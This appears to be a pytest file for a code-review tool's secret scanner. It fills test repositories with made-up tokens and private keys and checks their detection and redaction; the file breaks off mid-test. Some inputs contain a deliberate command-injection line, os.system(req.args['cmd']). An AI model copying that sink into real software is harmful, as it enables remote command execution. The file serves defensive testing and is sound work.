"""Secrets (issue #5): reported on added lines, never printed anywhere.

The credentials are made up at run time from a fixed seed: no file of this
repository holds one, so scanners (ours included) have nothing to find here.
"""

import base64
import json
import random
import re
import string
import time
from pathlib import Path
from typing import Any

import pytest
from findings import (
    analysis_of,
    findings_of,
    git_diff,
    manifest_with_findings,
    rows,
    run_any,
)
from manifests import Result, files_by_path, manifest_of, new_lines, run
from repos import build_commit, commit_date, git, parse_repo

from gitreview import secrets

_random = random.Random(5)
ALNUM = string.ascii_letters + string.digits
UPPER = string.ascii_uppercase + string.digits
BASE64 = ALNUM + "+/"


def made_up(alphabet: str, length: int) -> str:
    return "".join(_random.choice(alphabet) for _ in range(length))


# Kind -> (label in messages, a made-up value).
TOKENS = {
    "aws-access-key-id": ("AWS access key id", "AKIA" + made_up(UPPER, 16)),
    "github-token": ("GitHub token", "ghp_" + made_up(ALNUM, 36)),
    "github-fine-grained": (
        "GitHub token",
        "github_pat_" + made_up(ALNUM, 22) + "_" + made_up(ALNUM, 59),
    ),
    "gitlab-token": ("GitLab token", "glpat-" + made_up(ALNUM, 20)),
    "slack-token": (
        "Slack token",
        "xoxb-"
        + made_up(string.digits, 11)
        + "-"
        + made_up(string.digits, 12)
        + "-"
        + made_up(ALNUM, 24),
    ),
    "slack-webhook": (
        "Slack webhook URL",
        "https://hooks.slack.com/services/T"
        + made_up(UPPER, 8)
        + "/B"
        + made_up(UPPER, 10)
        + "/"
        + made_up(ALNUM, 24),
    ),
    "stripe-key": ("Stripe live key", "sk_" + "live_" + made_up(ALNUM, 24)),
    "google-api-key": ("Google API key", "AIza" + made_up(ALNUM + "_-", 35)),
    "npm-token": ("npm token", "npm_" + made_up(ALNUM, 36)),
    "pypi-token": ("PyPI token", "pypi-AgEIcHlwaS5vcmc" + made_up(ALNUM, 60)),
    "sendgrid-key": ("SendGrid API key", "SG." + made_up(ALNUM, 22) + "." + made_up(ALNUM, 43)),
    "openai-key": (
        "OpenAI API key",
        "sk-proj-" + made_up(ALNUM, 24) + "T3BlbkFJ" + made_up(ALNUM, 24),
    ),
    "anthropic-key": ("Anthropic API key", "sk-ant-api03-" + made_up(ALNUM, 93) + "AA"),
    # Found by an eleventh adversarial review.
    "slack-rotating": ("Slack token", "xoxe.xoxp-1-" + made_up(ALNUM, 140)),
    "gitlab-agent": ("GitLab token", "glagent-" + made_up(ALNUM, 50)),
    "age-secret-key": (
        "age secret key",
        "AGE-SECRET-KEY-1" + made_up("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58),
    ),
    "azure-storage-key": ("Azure storage account key", "AccountKey=" + made_up(BASE64, 86) + "=="),
    # Found by a twelfth adversarial review: a PEM key base64-encoded, as a Kubernetes
    # Secret's `data:` holds it.
    "private-key-base64": (
        "base64-encoded private key",
        base64.b64encode(
            "\n".join(
                [
                    "-----BEGIN PRIVATE KEY-----",
                    *(made_up(BASE64, 64) for _ in range(6)),
                    "-----END PRIVATE KEY-----\n",
                ]
            ).encode()
        ).decode(),
    ),
}
AWS_SECRET = made_up(BASE64, 40)
# A password in a database URL: the secret is the password alone (the host is shown).
URL_PASSWORD = made_up(ALNUM, 24)


def private_key(kind: str = "RSA ", lines: int = 12) -> tuple[str, list[str]]:
    body = [made_up(BASE64, 64) for _ in range(lines)] + [made_up(BASE64, 20) + "=="]
    block = [f"-----BEGIN {kind}PRIVATE KEY-----", *body, f"-----END {kind}PRIVATE KEY-----"]
    return "\n".join(block) + "\n", body


NEW_KEY, NEW_KEY_BODY = private_key()
OLD_KEY, OLD_KEY_BODY = private_key("")
GONE_KEY, GONE_KEY_BODY = private_key("OPENSSH ")
INLINE_KEY, INLINE_KEY_BODY = private_key("", lines=2)
# The same key with one line of its body changed: a hunk with no BEGIN line in it.
CHANGED_BODY = made_up(BASE64, 64)
CHANGED_KEY = OLD_KEY.replace(OLD_KEY_BODY[6], CHANGED_BODY)
TOKEN_IN_SUBJECT = "ghp_" + made_up(ALNUM, 36)
# Issue 11: names. A file named like a token, one renamed away from such a name, a
# heading, a branch, and a fixup! subject (quoted in its finding's message).
TOKEN_IN_PATH = "glpat-" + made_up(ALNUM, 20)
TOKEN_IN_OLD_PATH = "npm_" + made_up(ALNUM, 36)
TOKEN_IN_HEADING = "ghp_" + made_up(ALNUM, 36)
TOKEN_IN_BRANCH = "ghp_" + made_up(ALNUM, 36)
TOKEN_IN_FIXUP = "ghp_" + made_up(ALNUM, 36)
TOKENS_IN_NAMES = [TOKEN_IN_PATH, TOKEN_IN_OLD_PATH, TOKEN_IN_HEADING, TOKEN_IN_FIXUP]
NOTES = "".join(f"Note number {n} about the rotation of keys.\n" for n in range(12))
SETTINGS = (
    "".join(
        f'{kind.upper().replace("-", "_")} = "{value}"\n' for kind, (_, value) in TOKENS.items()
    )
    + f'aws_secret_access_key = "{AWS_SECRET}"\n'
    + f'DATABASE_URL = "postgres://app:{URL_PASSWORD}@db.prod.acme-corp.io:5432/app"\n'
)
PLACEHOLDERS = (
    "Set AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE and\n"
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
    "GITHUB_TOKEN=ghp_" + "x" * 36 + "\n"
    "\n"
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "...\n"
    "-----END RSA PRIVATE KEY-----\n"
)

# Everything no output may contain: each value, and any 16 characters of it.
VALUES = [
    *(value for _, value in TOKENS.values()),
    AWS_SECRET,
    URL_PASSWORD,
    TOKEN_IN_SUBJECT,
    TOKEN_IN_PATH,
    TOKEN_IN_OLD_PATH,
    TOKEN_IN_HEADING,
    TOKEN_IN_BRANCH,
    TOKEN_IN_FIXUP,
    CHANGED_BODY,
    *NEW_KEY_BODY,
    *OLD_KEY_BODY,
    *GONE_KEY_BODY,
    *INLINE_KEY_BODY,
]


def leaked(text: str) -> list[str]:
    return [
        value
        for value in VALUES
        if any(value[i : i + 16] in text for i in range(0, max(1, len(value) - 15), 4))
    ]


@pytest.fixture(scope="module")
def secrets_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """v1: a key and a key file to delete; v2: every kind of secret added, one key's body
    changed, the other deleted, and a token in a commit subject; v3, also the branch
    named like a token: tokens in names (a path, an old path, a heading, a subject)."""
    document = {
        "description": "secrets of every kind",
        "commits": [
            {
                "message": "Base tree",
                "tag": "v1",
                "files": {
                    "config/keys.pem": OLD_KEY,
                    "config/old.pem": GONE_KEY,
                    f"notes/{TOKEN_IN_OLD_PATH}.md": NOTES,
                },
            },
            {
                "message": f"Rotate the token {TOKEN_IN_SUBJECT}",
                "tag": "v2",
                "files": {
                    "config/settings.py": SETTINGS,
                    "config/id_rsa": NEW_KEY,
                    "config/keys.pem": CHANGED_KEY,
                    "config/old.pem": None,
                    "config/app.json": json.dumps({"private_key": INLINE_KEY}) + "\n",
                    "docs/aws.md": PLACEHOLDERS,
                },
            },
            {
                "message": f"fixup! Rotate {TOKEN_IN_FIXUP}",
                "tag": "v3",
                "rename": {f"notes/{TOKEN_IN_OLD_PATH}.md": "notes/rotation.md"},
                "files": {
                    f"keys/{TOKEN_IN_PATH}.txt": "A file named like a token.\n",
                    "notes/rotation.md": NOTES + "One more note.\n",
                    "docs/rotate.md": f"# Rotate {TOKEN_IN_HEADING}\n\nAnd then wait.\n",
                },
            },
        ],
    }
    spec = parse_repo(document, where="secrets")
    repo = tmp_path_factory.mktemp("secrets")
    git(repo, "init", "--quiet", "--initial-branch=main")
    for index, commit in enumerate(spec.commits):
        build_commit(repo, commit, commit_date(index))
    git(repo, "branch", TOKEN_IN_BRANCH, "v3")
    return repo


def expected_findings() -> list[tuple[str, str, str | None, int | None, str]]:
    settings = [
        ("text/secret", "error", "config/settings.py", line, f"{label} added (value redacted)")
        for line, (label, _) in enumerate(TOKENS.values(), 1)
    ]
    aws_secret = (
        "text/secret",
        "error",
        "config/settings.py",
        len(TOKENS) + 1,
        "AWS secret access key added (value redacted)",
    )
    url_password = (
        "text/secret",
        "error",
        "config/settings.py",
        len(TOKENS) + 2,
        "password in a URL added (value redacted)",
    )
    key = "private key added (value redacted)"
    return sorted(
        [
            url_password,
            ("text/secret", "error", "config/app.json", 1, key),
            ("text/secret", "error", "config/id_rsa", 1, key),
            ("text/secret", "error", "config/keys.pem", 8, key),  # the changed body line
            *settings,
            aws_secret,
        ],
        key=lambda row: (row[2] or "", row[3] or 0, row[4]),
    )


def test_every_kind_of_secret_is_an_error(secrets_repo: Path) -> None:
    # docs/aws.md holds only placeholders: AWS's documented example keys, a run of x,
    # and a key block with no key material.
    manifest = manifest_with_findings("--repo", secrets_repo, "v1..v2")
    assert findings_of(manifest, "text/secret") == expected_findings()
    hunk = files_by_path(manifest)["config/keys.pem"]["hunks"][0]
    assert hunk["reasons"] == ["finding"]


def test_secrets_from_a_patch_alone(secrets_repo: Path) -> None:
    # Without the file, a key's body line is not known to be one: only the hunk is seen.
    manifest = run("--patch", "-", stdin=git_diff(secrets_repo, "v1", "v2")).manifest
    expected = [row for row in expected_findings() if row[2] != "config/keys.pem"]
    assert findings_of(manifest, "text/secret") == expected


def output_formats() -> list[str]:
    """The formats the command line offers, as its help lists them: a format added
    later is covered here without a change."""
    usage = run("--help").stdout
    match = re.search(r"--format \{([^}]*)\}", usage)
    assert match, usage
    return match.group(1).split(",")


def handles_of(manifest: dict[str, Any]) -> list[str]:
    found = {
        handle
        for role in manifest["review"].values()
        for batch in role["batches"]
        for handle in (item["handle"] for item in batch["handles"])
    }
    for entry in manifest["files"]:
        found.update(hunk["handle"] for hunk in entry.get("hunks", []))
        if "handle" in entry:
            found.add(entry["handle"])
    return sorted(found)


def test_the_leak_check_finds_a_leak() -> None:
    assert leaked(f"x {NEW_KEY_BODY[3][5:30]} y") == [NEW_KEY_BODY[3]]
    assert leaked(SETTINGS) and leaked(NEW_KEY) and leaked(f"Rotate {TOKEN_IN_SUBJECT}")


def test_no_output_ever_holds_a_secret(secrets_repo: Path) -> None:
    formats = output_formats()
    assert {"json", "text"} <= set(formats)
    results: list[tuple[str, Result]] = []
    # v1..BRANCH (v1..v3) has tokens in names too: the spec, paths, a heading, subjects.
    for spec, end in (("v1..v2", "v2"), (f"v1..{TOKEN_IN_BRANCH}", "v3")):
        patch = git_diff(secrets_repo, "v1", end)
        for source in (("--repo", secrets_repo, spec), ("--patch", "-")):
            for output_format in formats:
                for extra in ((), ("--fallback",)):
                    args = (*source, "--format", output_format, *extra)
                    results.append((" ".join(map(str, args)), run_any(*args, stdin=patch)))
        manifest = manifest_with_findings("--repo", secrets_repo, spec)
        handles = handles_of(manifest)
        assert len(handles) >= 6
        for handle in handles:
            for context in ("0", "100"):
                args = ("show", "--repo", secrets_repo, handle, "--context", context)
                results.append((" ".join(map(str, args)), run(*args)))
            args = ("explain", "--repo", secrets_repo, handle, spec)
            results.append((" ".join(map(str, args)), run(*args)))
    paths = ["config/keys.pem", "config/settings.py", f"keys/{TOKEN_IN_PATH}.txt"]
    paths += [f"keys/{secrets.REDACTED}.txt", f"notes/{TOKEN_IN_OLD_PATH}.md"]
    for path in paths:
        results.append((f"explain {path}", run("explain", "--repo", secrets_repo, path, "v1..v3")))
    results.append(("unknown", run("--repo", secrets_repo, f"v1..{TOKEN_IN_BRANCH}x")))
    for what, result in results:
        assert result.status in (0, 1, 3), (what, result.stderr)
        assert leaked(result.stdout + result.stderr) == [], what
    # The redaction shows where a secret was.
    manifest = manifest_with_findings("--repo", secrets_repo, "v1..v2")
    shown = run("show", "--repo", secrets_repo, handles_of(manifest)[0], "--context", "100").stdout
    assert secrets.REDACTED in shown or "REDACTED" in str(manifest)


def test_names_are_redacted_and_their_handles_resolve(secrets_repo: Path) -> None:
    manifest = manifest_with_findings("--repo", secrets_repo, f"v1..{TOKEN_IN_BRANCH}")
    hidden = secrets.REDACTED
    assert manifest["range"]["spec"] == f"v1..{hidden}"
    assert manifest["range"]["commits"][-1]["subject"] == f"fixup! Rotate {hidden}"
    [fixup] = findings_of(manifest, "range/fixup-commit")
    assert hidden in fixup[4]
    entries = {entry["path"]: entry for entry in manifest["files"]}
    assert entries["notes/rotation.md"]["old_path"] == f"notes/{hidden}.md"
    reviewed = {
        item["handle"].split(":")[0]: item
        for batch in manifest["review"]["default"]["batches"]
        for item in batch["handles"]
    }
    hunk = reviewed[f"keys/{hidden}.txt"]
    assert hunk["handle"].startswith(f"keys/{hidden}.txt:1-1@")
    shown = run("show", "--repo", secrets_repo, hunk["handle"])
    assert (shown.status, shown.stdout) == (
        0,
        f"@@ {hunk['handle']} @@\n+1 A file named like a token.\n",
    )
    assert reviewed["docs/rotate.md"]["section"] == f"Rotate {hidden}"
    explained = run("explain", "--repo", secrets_repo, f"keys/{TOKEN_IN_PATH}.txt", "v1..v3")
    assert explained.stdout.splitlines()[0] == f"keys/{hidden}.txt (file)"


def test_the_hook_hides_names(secrets_repo: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(secrets_repo), str(clone))
    v1, v3 = (git(clone, "rev-parse", tag) for tag in ("v1", "v3"))
    ref = f"refs/heads/{TOKEN_IN_BRANCH}"
    line = f"{ref} {v3} {ref} {v1}\n"
    result = run("pre-push", "--repo", clone, "origin", stdin=line.encode())
    assert result.status == 1  # the secrets and the fixup! commit
    assert leaked(result.stdout + result.stderr) == []
    saved = sorted((clone / ".git" / "gitreview").rglob("*.json"))
    [name] = [path.name for path in saved]
    assert re.fullmatch(re.escape(secrets.REDACTED) + "-[0-9a-f]{12}\\.refused\\.json", name), name
    assert leaked(saved[0].read_text("utf-8")) == []
    assert "fixup! Rotate" in saved[0].read_text("utf-8")


def test_the_actions_step_hides_names(
    secrets_repo: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from test_ci import Runner

    # `since` names a head the clone lacks: the step says so, and reviews everything.
    since = f"{TOKEN_IN_BRANCH}x"
    step = Runner(monkeypatch, tmp_path)(
        secrets_repo, None, base="v1", head=TOKEN_IN_BRANCH, since=since
    )
    assert f"gitreview: unknown revision '{secrets.REDACTED}' (--since)" in step.stderr
    assert step.status == 1, step.stderr
    assert step.manifest is not None
    assert step.manifest["range"]["spec"] == f"v1...{secrets.REDACTED}"
    outputs = step.stdout + step.stderr + step.outputs + step.summary + json.dumps(step.manifest)
    assert leaked(outputs) == []
    assert f"keys/{secrets.REDACTED}.txt" in step.summary + step.stdout + json.dumps(step.manifest)


def test_show_hides_a_key_body_it_shows_without_the_begin_line(secrets_repo: Path) -> None:
    manifest = manifest_with_findings("--repo", secrets_repo, "v1..v2")
    [hunk] = files_by_path(manifest)["config/keys.pem"]["hunks"]
    assert new_lines(hunk) == [8, 8]
    assert hunk["excerpt"] == f"-{secrets.REDACTED} ⏎ +{secrets.REDACTED}"
    shown = run("show", "--repo", secrets_repo, hunk["handle"]).stdout
    assert shown.splitlines()[1:] == [f"-8 {secrets.REDACTED}", f"+8 {secrets.REDACTED}"]
    new = run("show", "--new", "--repo", secrets_repo, hunk["handle"]).stdout
    assert new == f"8:{secrets.REDACTED}\n"


BODY = [made_up(BASE64, 64) for _ in range(2)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("token = AKIA" + "A1B2C3D4E5F6G7H8", "token = [REDACTED]"),
        ('aws_secret_access_key: "' + "a/B+" * 10 + '"', 'aws_secret_access_key: "[REDACTED]"'),
        # Found by an adversarial review: the AWS secret key named, then joined to its
        # value otherwise than by `=` or `:`.
        *(
            (form.format(key="a/B+" * 10), form.format(key="[REDACTED]"))
            for form in (
                "aws configure set aws_secret_access_key {key}",
                '  "SecretAccessKey": "{key}"}}',
                "<AwsSecretAccessKey>{key}</AwsSecretAccessKey>",
                "aws_secret_access_key: [{key}]",
                'export AWS_SECRET_ACCESS_KEY="${{KEY:-{key}}}"',
                "aws.secretKey={key}",
                "AWS Secret Access Key [None]: {key}",
            )
        ),
        # A commit id beside the name is no key (a review of the fix).
        (
            "Stop logging aws_secret_access_key (da39a3ee5e6b4b0d3255bfef95601890afd80709)",
            "Stop logging aws_secret_access_key (da39a3ee5e6b4b0d3255bfef95601890afd80709)",
        ),
        (
            "url=https:\\/\\/hooks.slack.com\\/services\\/T6OAM89OZ6W\\/BW3R9AY6I79\\/nB8dE3xKJm8GAF0wAwaI",
            "url=[REDACTED]",
        ),
        (
            "url=https://HOOKS.SLACK.COM/services/T6OAM89OZ6W/BW3R9AY6I79/nB8dE3xKJm8GAF0wAwaI",
            "url=[REDACTED]",
        ),
        (
            "url=https://Hooks.Slack.com/services/T6OAM89OZ6W/BW3R9AY6I79/nB8dE3xKJm8GAF0wAwaI",
            "url=[REDACTED]",
        ),
        *(
            (url, "url=[REDACTED]")
            for url in (
                "url=http://hooks.slack.com/services/T6OAM89OZ6W/BW3R9AY6I79/nB8dE3xKJm8GAF0wAwaI",
                "url=hooks.slack.com/services/T6OAM89OZ6W/BW3R9AY6I79/nB8dE3xKJm8GAF0wAwaI",
                "url=https%3A%2F%2Fhooks.slack.com%2Fservices%2FT6OAM89OZ6W%2FBW3R9AY6I79"
                "%2FnB8dE3xKJm8GAF0wAwaI",
            )
        ),
        ("-----BEGIN EC PRIVATE KEY-----", "-----BEGIN EC PRIVATE KEY-----"),
        (
            '"-----BEGIN PRIVATE KEY-----\\n'
            + "Q" * 64
            + '\\nAbC\\n-----END PRIVATE KEY-----\\n", 1',
            '"-----BEGIN PRIVATE KEY-----[REDACTED]-----END PRIVATE KEY-----\\n", 1',
        ),
        (
            "-----BEGIN PRIVATE KEY-----\n" + "Q" * 64 + "\ndEf\n-----END PRIVATE KEY-----\nafter",
            "-----BEGIN PRIVATE KEY-----\n[REDACTED]\n[REDACTED]\n-----END PRIVATE KEY-----\nafter",
        ),
        # No key material between the armour: no key, and nothing hidden.
        (
            '"-----BEGIN PRIVATE KEY-----\\nAbC\\n-----END PRIVATE KEY-----\\n", 1',
            '"-----BEGIN PRIVATE KEY-----\\nAbC\\n-----END PRIVATE KEY-----\\n", 1',
        ),
        # Code is no key's body: a BEGIN line quoted in a comment hides nothing below it,
        # and code between the armour lines of a key is shown.
        (
            "# -----BEGIN OPENSSH PRIVATE KEY-----\n" + "Q" * 64 + "\nos.system(cmd)\nok()",
            "# -----BEGIN OPENSSH PRIVATE KEY-----\n[REDACTED]\nos.system(cmd)\nok()",
        ),
        (
            "-----BEGIN PRIVATE KEY-----\n"
            + "Q" * 64
            + "\nos.system(cmd)\n-----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n[REDACTED]\nos.system(cmd)\n-----END PRIVATE KEY-----",
        ),
        # Found by a review of those: keys written as programs and comments write them,
        # an armour header quoted, a short last line wrapped, and code holding base64.
        (
            '    "-----BEGIN RSA PRIVATE KEY-----\\n"\n    "Proc-Type: 4,ENCRYPTED\\n"\n'
            + f'    "{BODY[0]}\\n"\n    "tail"]\n    "-----END RSA PRIVATE KEY-----\\n"',
            '    "-----BEGIN RSA PRIVATE KEY-----\\n"\n    "Proc-Type: 4,ENCRYPTED\\n"\n'
            ' [REDACTED]\n [REDACTED]\n    "-----END RSA PRIVATE KEY-----\\n"',
        ),
        (
            f"# -----BEGIN RSA PRIVATE KEY-----\n# {BODY[0]}\n# tail\n"
            "# -----END RSA PRIVATE KEY-----",
            "# -----BEGIN RSA PRIVATE KEY-----\n[REDACTED]\n[REDACTED]\n"
            "# -----END RSA PRIVATE KEY-----",
        ),
        (
            f"-----BEGIN RSA PRIVATE KEY-----\nos.system(cmd)  # {BODY[0]}\nok()",
            f"-----BEGIN RSA PRIVATE KEY-----\nos.system(cmd)  # {BODY[0]}\nok()",
        ),
        # A token after a byte that is no UTF-8, escaped as hunks and `show` show it.
        ("aws_key:\\xa0AKIA" + "A1B2C3D4E5F6G7H8", "aws_key:\\xa0[REDACTED]"),
        # A fragment of a key without its BEGIN line, as an excerpt or a diff may hold.
        ("+" + "Q" * 64 + "\n-" + "R" * 64, "[REDACTED]\n[REDACTED]"),
        ("AbC+/=\n-----END RSA PRIVATE KEY-----", "[REDACTED]\n-----END RSA PRIVATE KEY-----"),
        ("xoxb-your-token-here", "xoxb-your-token-here"),  # not the format of a token
        # Found by an adversarial review: a token right after an escape (percent-encoded,
        # a string's `\n`), and a Stripe key longer than 99 characters.
        (
            "payload=%7B%22token%22%3A%22ghp_" + "a1B2" * 9 + "%22%7D",
            "payload=%7B%22token%22%3A%22[REDACTED]%22%7D",
        ),
        (
            "X-Amz-Credential%3DAKIA" + "A1B2C3D4E5F6G7H8" + "%252F",
            "X-Amz-Credential%3D[REDACTED]%252F",
        ),
        ('"ghp_' + "a1B2" * 9 + "\\nghp_" + "c3D4" * 9 + '"', '"[REDACTED]\\n[REDACTED]"'),
        ("key = sk_" + "live_" + "a1B2" * 30, "key = [REDACTED]"),
        # A review of the fix: other escapes before a token.
        ('"\\u0022ghp_' + "a1B2" * 9 + '"', '"\\u0022[REDACTED]"'),
        ("%2522ghp_" + "a1B2" * 9, "%2522[REDACTED]"),
        ("token=3Dghp_" + "a1B2" * 9, "token=3D[REDACTED]"),
        # A name or a path is no key's body line, however long.
        (
            "    sendProcessEnv2TelemetryEndpointOnEveryBuild,",
            "    sendProcessEnv2TelemetryEndpointOnEveryBuild,",
        ),
        ("plain words and a short_identifier", "plain words and a short_identifier"),
    ],
)
def test_redact(text: str, expected: str) -> None:
    assert secrets.redact(text) == expected


def test_documented_placeholders_are_redacted_but_not_reported() -> None:
    assert secrets.redact("AKIAIOSFODNN7EXAMPLE") == secrets.REDACTED
    assert rows(analysis_of("README.md", None, PLACEHOLDERS)) == []


@pytest.mark.parametrize(
    "line",
    [
        "glpat-" * 40_000,
        "AKIA" * 60_000,
        "-----BEGIN A " * 20_000,
        "xoxb-1234567890-" * 15_000,
        "aws_secret_key = " * 15_000,
        "ghp_" * 60_000,
        "sk-" + "a" * 240_000,
        "SG." * 80_000,
        "+" * 240_000 + "!",
        "-----BEGIN RSA PRIVATE KEY-----\n" + "+" * 240_000 + "!",  # a key's body line
        "-----BEGIN RSA PRIVATE KEY-----\n" + "> " * 100_000 + "!",  # quoted as mail is
        "A" * 40 + " " * 100_000 + "x",  # material, then spaces (a review of the fix)
        "A" * 64 + "\\" * 60_000,  # material, then backslashes (a second review)
        "# aws_secret_access_key:\n" * 20_000,  # names, each above the next
        "-----BEGIN A PRIVATE KEY----- " + "QUJD " * 50_000 + "!",  # a body on one line
        # A twelfth review: many tokens on one line were redacted one rebuild each.
        ("AKIA" + "A" * 16 + " ") * 200_000,
        "LS0tLS1CRUdJTiBQUklWQVRFIEtF" * 8_000 + "A" * 200_000 + "!",
        # URLs' passwords: schemes, users, passwords and hosts that never end in a match.
        "a" * 240_000 + "://@",
        "x://" + "u:" * 120_000 + "@",
        ("x://u:" + "p" * 190 + "@") * 1_200,
        "x://u:" + "@" * 240_000,
        "x://u:${" * 30_000 + "@",
        # A review of the rule: placeholders and passwords, each checked against the
        # other tokens of the line (quadratic).
        ("AKIA" + "A" * 16 + " x://u:" + "p" * 8 + "@h.io ") * 20_000,
        "x://u:" + "p@" * 100_000,
    ],
)
def test_patterns_are_linear_on_long_lines(line: str) -> None:
    start = time.perf_counter()
    secrets.redact(line)
    list(secrets.find_tokens(line))
    assert time.perf_counter() - start < 30  # a blow-up bound, not a speed target


def test_a_name_is_redacted_only_where_a_credential_is() -> None:
    # Made of base64 characters only, yet a path: `redact` would hide it as key material.
    path = "docs/architecture/overview/introduction/Guide"
    assert secrets.redact(path) == secrets.REDACTED
    assert secrets.redact_name(path) == path
    assert secrets.redact_name(f"keys/{TOKEN_IN_PATH}.txt:1-3@1a2b3c4d5e6f") == (
        f"keys/{secrets.REDACTED}.txt:1-3@1a2b3c4d5e6f"
    )


def test_a_name_redaction_leaves_alone_is_told_in_one_search() -> None:
    """`name_may_change` is False only where `redact_name` changes nothing: the
    manifest's names are searched once per file, then redacted one by one only if
    that search finds something (issue 12)."""
    import random

    pieces = [*TOKENS_IN_NAMES, "docs/guide.md", "Install > Linux", " ", "\n", "-", "_"]
    pieces += ["-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", BASE64[:48]]
    pieces += ["Secret", "ECRET", "ghp", "AKI", "xo", "sk-ant", "{}", '"']
    chooser = random.Random(5)
    left_alone = 0
    for _ in range(3000):
        text = "".join(chooser.choice(pieces) for _ in range(chooser.randint(0, 6)))
        if not secrets.name_may_change(text):
            assert secrets.redact_name(text) == text, text
            left_alone += 1
    assert left_alone > 300


def test_role_instructions_are_redacted_in_briefs(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    (repo / ".gitreview.yml").write_text(
        "roles:\n  docs:\n    paths: ['*.md']\n    instructions: review.md\n"
    )
    (repo / "review.md").write_text(f"Deploy with {TOKEN_IN_HEADING} when done.\n")
    (repo / "README.md").write_text("# Readme\n")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "Base")
    (repo / "README.md").write_text("# Readme\n\nMore.\n")
    git(repo, "commit", "--quiet", "--all", "-m", "More")
    brief = run("--repo", repo, "HEAD", "--format", "brief", "--role", "docs").stdout
    assert f"Deploy with {secrets.REDACTED} when done." in brief
    assert leaked(brief) == []


# --- the literal prefilter (issue 12) ----------------------------------------------------


# Characters outside ASCII that re's IGNORECASE takes for an ASCII letter.
CASE_TWINS = ("\u017f", "\u212a", "\u0130", "\u0131")
TWINS = {
    code: {
        t
        for t in (chr(code), chr(code).upper(), *CASE_TWINS)
        if re.fullmatch(f"(?i:{re.escape(chr(code))})", t)
    }
    for code in range(128)
}


def sample(pattern: str, rng: random.Random) -> str:
    """A random string shaped by `pattern` (lookarounds left out): most are matches."""
    from re import _constants as c  # type: ignore[attr-defined]
    from re import _parser  # type: ignore[attr-defined]

    def walk(items: Any, caseless: bool = False) -> str:
        out = []
        for op, arg in items:
            if op is c.LITERAL and caseless:  # any character re takes for this one
                twins = [t for t in (chr(arg), chr(arg).upper(), *CASE_TWINS) if t in TWINS[arg]]
                out.append(rng.choice(twins))
            elif op is c.LITERAL:
                out.append(chr(arg))
            elif op is c.IN:
                choices = [
                    chr(code)
                    for kind, value in arg
                    for code in (range(value[0], value[1] + 1) if kind is c.RANGE else [value])
                    if kind in (c.RANGE, c.LITERAL)
                ]
                if (c.CATEGORY, c.CATEGORY_WORD) in arg:  # `\w`: ASCII's word characters
                    choices += [*string.ascii_letters, *string.digits, "_"]
                if (c.CATEGORY, c.CATEGORY_SPACE) in arg:
                    choices += [" ", "\t"]
                if arg[0][0] is c.NEGATE:  # any printable character but those
                    choices = [chr(code) for code in range(32, 127) if chr(code) not in choices]
                out.append(rng.choice(choices))
            elif op in (c.MAX_REPEAT, c.MIN_REPEAT, c.POSSESSIVE_REPEAT):
                low, high, body = arg
                repeat = rng.randint(low, min(high, low + 3))
                out += [walk(body, caseless) for _ in range(repeat)]
            elif op is c.BRANCH:
                out.append(walk(rng.choice(arg[1]), caseless))
            elif op is c.SUBPATTERN:
                out.append(walk(arg[3], caseless or bool(arg[1] & c.SRE_FLAG_IGNORECASE)))
        return "".join(out)

    return walk(_parser.parse(pattern))


def near_misses(text: str) -> list[str]:
    """`text` with each of its first characters (where the literals are) in turn dropped,
    doubled or swapped for another case."""
    variants = []
    for index, char in enumerate(text[:40]):
        variants += [text[:index] + text[index + 1 :], text[:index] + char + text[index:]]
        variants.append(text[:index] + char.swapcase() + text[index + 1 :])
    return variants


@pytest.mark.parametrize(
    "kind", [*secrets.TOKEN_KINDS, secrets.URL_PASSWORD], ids=lambda kind: kind.id
)
def test_the_prefilter_admits_every_match(kind: secrets.SecretKind) -> None:
    rng = random.Random(kind.id)
    matches = 0
    for _ in range(150):
        text = sample(kind.source, rng)
        # (after a run of base64: a base64-encoded key is a long run holding its armour)
        padded = "A" * 120 + text
        for candidate in [text, f"x = '{text}'", padded, f"x = '{padded}'", *near_misses(text)]:
            if kind.pattern.search(candidate):
                matches += 1
                assert secrets.may_hold_token(candidate), candidate
                assert kind in secrets.kinds_in(candidate), candidate
    assert matches > 150  # the samples do exercise the pattern
    for value, _ in [TOKENS[name][::-1] for name in TOKENS]:
        assert secrets.may_hold_token(value) or not kind.pattern.search(value)


def test_the_caseless_literal_has_no_unicode_twin() -> None:
    # re's IGNORECASE matches a few letters to characters outside ASCII (s to U+017F,
    # k to the Kelvin sign): the caseless literal must use none of them.
    every = (
        "".join(map(chr, range(0x110000)))
        .encode("utf-8", "surrogatepass")
        .decode("utf-8", "replace")
    )
    for letter in "ecret":
        assert set(re.findall(f"(?i:{letter})", every)) == {letter, letter.upper()}
    assert re.fullmatch("(?i:s)", "\u017f")  # why the s is left out


@pytest.mark.parametrize(
    "head",
    [
        # A BEGIN line quoted in a comment, with no END and no key.
        'import os\n# Format: -----BEGIN OPENSSH PRIVATE KEY-----\nos.system(req.args["cmd"])\n',
        # The armour in strings around code.
        'import os\nDOC = """\n-----BEGIN RSA PRIVATE KEY-----\n"""\n'
        'os.system(req.args["cmd"])\n"""\n-----END RSA PRIVATE KEY-----\n"""\n',
    ],
    ids=["a BEGIN line in a comment", "the armour around code"],
)
def test_the_armour_of_a_key_hides_no_code(tmp_path: Path, head: str) -> None:
    # Anyone may write the armour: what it hides must be a key, or the range could hide
    # its own code from every reviewer (and with no key, there is no finding either).
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    (repo / "app.py").write_text("import os\n")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "Base")
    (repo / "app.py").write_text(head)
    git(repo, "commit", "--quiet", "--all", "-m", "Head")
    code = 'os.system(req.args["cmd"])'
